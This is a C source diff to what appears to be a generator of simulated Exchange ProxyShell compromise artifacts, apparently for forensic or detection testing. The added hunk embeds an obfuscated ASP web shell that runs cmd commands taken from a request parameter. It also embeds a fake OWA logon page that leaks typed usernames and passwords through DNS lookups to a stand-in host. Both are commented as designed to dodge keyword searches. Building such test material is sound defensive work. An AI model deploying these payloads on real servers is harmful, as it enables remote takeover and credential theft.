@@ -755,6 +755,38 @@ static void sc_proxyshell_hidden(struct gen *g)
 		    keeper, sizeof keeper - 1, 1629599000);
 		g->passwords_taken = 1629598900;
 	}
+	/* Hidden from a search for the words: a classic ASP shell whose
+	 * object and request names are reversed or padded, and a shipped
+	 * page that leaks each password typed as a DNS name (no web
+	 * request leaves the server). */
+	{
+		static const char asp[] =
+		    "<%\r\nDim o, k\r\nk = Replace(\"WQScQriQpt.SQhell\", "
+		    "\"Q\", \"\")\r\nSet o = Server.CreateObject(k)\r\n"
+		    "Execute(StrReverse(\")\"\"d\"\"(tseuqeR = c\"))\r\n"
+		    "Response.Write o.Exec(\"cmd /c \" & "
+		    "c).StdOut.ReadAll()\r\n"
+		    "%>\r\n";
+		static const char dns[] =
+		    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
+		    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
+		    "<script runat=\"server\">\r\nprotected override void "
+		    "OnLoad(EventArgs e) {\r\n  string u = Request.Form["
+		    "\"username\"], p = Request.Form[\"password\"];\r\n  if "
+		    "(p != null) { string h = BitConverter.ToString(System."
+		    "Text.Encoding.UTF8.GetBytes(u + \":\" + "
+		    "p)).Replace(\"-\", "
+		    "\"\");\r\n    try { System.Net.Dns.GetHostAddresses(h."
+		    "Substring(0, Math.Min(60, h.Length)) + \".n.msft-cdn."
+		    "example\"); } catch { } }\r\n  base.OnLoad(e);\r\n}\r\n"
+		    "</script>\r\n<html><body></body></html>\r\n";
+		rand_name(g, name, 6);
+		snprintf(rel, sizeof rel,
+		         "inetpub/wwwroot/portal/scripts/%s.asp", name);
+		backdoor(g, rel, asp, sizeof asp - 1, 1629599100);
+		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/OutlookCN.aspx",
+		         dns, sizeof dns - 1, 1629599200);
+	}
 }
 
 /* CVE-2021-26857: the UM deserialization as the Application log shows
